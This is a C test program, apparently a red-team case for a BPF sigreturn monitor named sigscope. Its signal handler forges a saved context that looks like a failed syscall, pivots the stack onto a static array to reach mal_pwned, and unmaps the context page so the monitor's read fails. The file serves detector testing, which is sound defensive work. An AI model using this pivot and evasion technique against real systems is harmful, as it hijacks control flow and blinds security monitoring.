/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_unread_plain_exit (red team round 2, unreadframe): a genuine frame that sigscope cannot
 * read at the sigreturn's entry, whose restored context looks like the return of a plain
 * syscall(-1) at its exit. The handler runs on a sigaltstack that is a MAP_SHARED memfd mapping,
 * placed so that the frame's pretcode ends exactly at a page boundary and the ucontext starts on
 * the next page. It rewrites its context to what a failed syscall leaves (rax = -ENOSYS, rcx =
 * rip, r11 = rflags, rip right after a `syscall`, here redirect_site_ret) with rsp on a stack
 * whose top is mal_pwned, then drops the ucontext's page with MADV_DONTNEED: the bytes stay in
 * the memfd, so the kernel's faulting copy restores them, but a BPF read never faults and fails.
 * The restored `ret` pops mal_pwned.
 *
 * Why: mode full pairs the entry with its delivery by the frame's address and, the registers
 * unread, leaves them to the exit; the exit took a pending entry with an unreadable frame and no
 * delivery left to explain it, whose registers look like a plain syscall(-1) return, for one
 * (the exemption meant for exits whose entry the kernel skipped), and judged nothing. A plain
 * return counts only when its entry was marked (syscall -1 entering); any other exit is judged.
 *
 * Expected from sigscope: at the exit, tampered_context (high) and stack_pivot (high: rsp moved
 * to a static array), where --enforce stops it, and toctou (low: the frame unread at entry); no
 * forged_frame, no wrong_call_site.
 */
#include "mal.h" /* first: it defines _GNU_SOURCE */

#define ALT_MAP	 (256 * 1024)
#define ALT_SIZE (128 * 1024)
#define PAGE	 4096ul

MAL_REDIRECT_SITE();

static char *alt;
static uint64_t fake_stack[1024] __attribute__((aligned(16)));
static volatile uint64_t frame_addr;
static volatile int armed;

static void handler(int sig, siginfo_t *info, void *ucv)
{
	greg_t *g = ((ucontext_t *)ucv)->uc_mcontext.gregs;
	uint64_t frame = (uint64_t)ucv - 8, flags;

	(void)sig;
	(void)info;
	frame_addr = frame;
	if (!armed || ((frame + 8) & (PAGE - 1)))
		return;
	__asm__ volatile("pushf\n\tpop %0" : "=r"(flags));
	fake_stack[512] = (uint64_t)mal_pwned;
	g[REG_RIP] = (greg_t)redirect_site_ret; /* right after a syscall, then ret */
	g[REG_RCX] = (greg_t)redirect_site_ret;
	g[REG_RAX] = -ENOSYS;
	g[REG_EFL] = flags & ~0x50dd5ul; /* the status flags, TF, DF, AC cleared */
	g[REG_R11] = g[REG_EFL];
	g[REG_RSP] = (greg_t)&fake_stack[512];
	/* The ucontext's page: gone from the page table, kept in the memfd. */
	madvise((void *)(frame + 8), PAGE, MADV_DONTNEED);
}

static void set_altstack(uint64_t shift)
{
	stack_t ss = {.ss_sp = alt + shift, .ss_size = ALT_SIZE, .ss_flags = 0};

	if (sigaltstack(&ss, NULL))
		mal_die(MAL_EXIT_SETUP, "sigaltstack");
}

int main(void)
{
	int fd;

	mal_init("srop_unread_plain_exit", 10);
	fd = memfd_create("altstack", MFD_CLOEXEC);
	if (fd < 0 || ftruncate(fd, ALT_MAP))
		mal_die(MAL_EXIT_SETUP, "memfd");
	alt = mmap(NULL, ALT_MAP, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (alt == MAP_FAILED)
		mal_die(MAL_EXIT_SETUP, "mmap");
	mal_handle(SIGUSR1, handler, SA_ONSTACK);

	/* Calibrate where the frame lands, then shift the altstack so pretcode ends on a page. */
	set_altstack(0);
	redirect_site_tgkill(getpid(), syscall(SYS_gettid), SIGUSR1);
	if (!frame_addr)
		mal_die(MAL_EXIT_SETUP, "no delivery");
	set_altstack((PAGE - ((frame_addr + 8) & (PAGE - 1))) & (PAGE - 1));
	armed = 1;
	redirect_site_tgkill(getpid(), syscall(SYS_gettid), SIGUSR1);
	mal_say("not redirected (frame at %#lx)", (unsigned long)frame_addr);
	return MAL_EXIT_NOTHING;
}
